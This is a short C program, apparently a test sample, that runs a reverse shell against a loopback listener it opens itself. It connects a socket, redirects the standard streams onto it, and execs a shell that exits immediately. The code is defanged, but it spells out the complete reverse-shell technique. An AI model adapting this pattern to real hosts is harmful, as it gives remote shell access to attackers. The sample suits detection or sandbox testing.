/* A reverse shell against a listener the sample itself opens on 127.0.0.1 (inside its own network
 * namespace): connect, dup2 the socket onto 0/1/2, exec a shell that exits at once. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>
int main(void) {
    struct sockaddr_in a = {0};
    a.sin_family = AF_INET;
    a.sin_port = htons(4444);
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    int l = socket(AF_INET, SOCK_STREAM, 0);
    int one = 1;
    setsockopt(l, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (bind(l, (struct sockaddr *)&a, sizeof a) != 0 || listen(l, 1) != 0) return 1;
    pid_t listener = fork();
    if (listener == 0) {
        int c = accept(l, NULL, NULL);
        char buf[256];
        while (c >= 0 && read(c, buf, sizeof buf) > 0) {
        }
        _exit(0);
    }
    close(l);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) return 2;
    dup2(s, 0);
    dup2(s, 1);
    dup2(s, 2);
    execl("/bin/sh", "sh", "-c", "exit 0", (char *)0);
    return 3;
}
